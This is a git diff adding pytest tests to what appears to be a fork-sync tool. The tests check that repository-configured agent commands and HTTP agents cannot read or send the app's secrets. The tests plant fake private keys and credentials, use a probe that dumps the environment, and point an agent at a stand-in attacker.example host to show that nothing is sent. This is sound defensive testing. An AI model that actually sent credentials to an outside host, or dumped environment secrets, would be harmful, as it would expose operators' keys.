@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import json
+import os
 import sys
 from collections.abc import Callable
 from pathlib import Path
@@ -36,6 +37,8 @@ def _conflicting_pick(make_repo: Callable[[str], GitRepo]) -> tuple[GitRepo, str
 def _agent(mode: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, timeout: int = 20) -> CommandAgent:
     monkeypatch.setenv("SCRIPTED_AGENT_MODE", mode)
     monkeypatch.setenv("SCRIPTED_AGENT_LOG", str(tmp_path / "requests.jsonl"))
+    # a config's agent command gets the suites' allow-listed environment: the operator passes these
+    monkeypatch.setenv("FORKSYNC_SUITE_ENV_PASS", "SCRIPTED_AGENT_MODE,SCRIPTED_AGENT_LOG")
     return CommandAgent((sys.executable, str(AGENT_SCRIPT)), timeout_s=timeout, max_output_bytes=100_000)
 
 
@@ -125,6 +128,7 @@ def test_http_agent_speaks_openai_chat_completions(monkeypatch: pytest.MonkeyPat
         return Response(json.dumps({"choices": [{"message": {"content": json.dumps(answer)}}]}).encode())
 
     monkeypatch.setenv("MY_KEY", "sekret")
+    monkeypatch.setenv("FORKSYNC_AGENT_KEY_ENV", "MY_KEY")
     agent = HttpAgent("https://llm.example/v1/", "MY_KEY", "m1", opener=opener)
     assert agent.ask({"files": []}) == {"files": [{"path": "a.py", "defer": "unsure"}]}
     assert seen["url"] == "https://llm.example/v1/chat/completions" and seen["auth"] == "Bearer sekret"
@@ -134,6 +138,7 @@ def test_http_agent_speaks_openai_chat_completions(monkeypatch: pytest.MonkeyPat
 def test_http_agent_without_its_key_says_which_variable(monkeypatch: pytest.MonkeyPatch) -> None:
     """The key variable unset is a one-line error naming it."""
     monkeypatch.delenv("ABSENT_KEY", raising=False)
+    monkeypatch.setenv("FORKSYNC_AGENT_KEY_ENV", "ABSENT_KEY")
     with pytest.raises(Exception, match="ABSENT_KEY is not set"):
         HttpAgent("https://llm.example/v1", "ABSENT_KEY", None).ask({})
 
@@ -146,3 +151,38 @@ def test_agent_from_config() -> None:
     override = from_config(AgentConfig(command=("a",)), ["z"])
     assert isinstance(override, CommandAgent) and override.argv == ("z",)
     assert isinstance(from_config(AgentConfig(url="https://x/v1")), HttpAgent)
+
+
+def test_a_configs_agent_command_never_sees_the_apps_secrets(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    """Issue 14 finding 1 for ``resolve.agent.command`` (a fork writer's code): it runs with the
+    suites' allow-listed environment; the operator's own ``--agent`` command keeps the environment."""
+    probe = tmp_path / "probe.py"
+    probe.write_text("import json, os, sys\nsys.stdin.read()\nprint(json.dumps({'env': dict(os.environ)}))\n")
+    monkeypatch.setenv("GITHUB_PRIVATE_KEY", "-----BEGIN RSA PRIVATE KEY-----planted")
+    monkeypatch.setenv("FORKSYNC_WEBHOOK_SECRET", "whsec-planted")
+    monkeypatch.setenv("REDIS_URL", "redis://:pw-planted@127.0.0.1:6379/0")
+    monkeypatch.setenv("FORKSYNC_SUITE_ENV_PASS", "GITHUB_PRIVATE_KEY,REDIS_URL")  # listed: still never passed
+    configured = from_config(AgentConfig(command=(sys.executable, str(probe))))
+    assert isinstance(configured, CommandAgent)
+    env = configured.ask({})["env"]
+    assert not [k for k, v in env.items() if "planted" in v]
+    assert env["HOME"] != os.environ.get("HOME") and "PATH" in env
+    operators = from_config(AgentConfig(), command=(sys.executable, str(probe)))
+    assert isinstance(operators, CommandAgent) and operators.ask({})["env"]["FORKSYNC_WEBHOOK_SECRET"] == "whsec-planted"
+
+
+def test_a_configs_http_agent_cannot_send_a_worker_variable_the_operator_did_not_allow(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """``resolve.agent.url`` and ``key_env`` both come from the repository: naming GITHUB_PRIVATE_KEY
+    (or any variable the operator did not list in FORKSYNC_AGENT_KEY_ENV) sends nothing."""
+    sent: list[Any] = []
+    monkeypatch.setenv("GITHUB_PRIVATE_KEY", "planted")
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "planted")
+    monkeypatch.setenv("FORKSYNC_AGENT_KEY_ENV", "GITHUB_PRIVATE_KEY")  # the App's own key: never, even listed
+    for name in ("GITHUB_PRIVATE_KEY", "AWS_SECRET_ACCESS_KEY"):
+        agent = HttpAgent("https://attacker.example/v1", name, None, opener=lambda req, timeout: sent.append(req))
+        with pytest.raises(Exception, match="has not allowed") as err:
+            agent.ask({})
+        assert "FORKSYNC_AGENT_KEY_ENV" in str(err.value)
+    assert sent == []
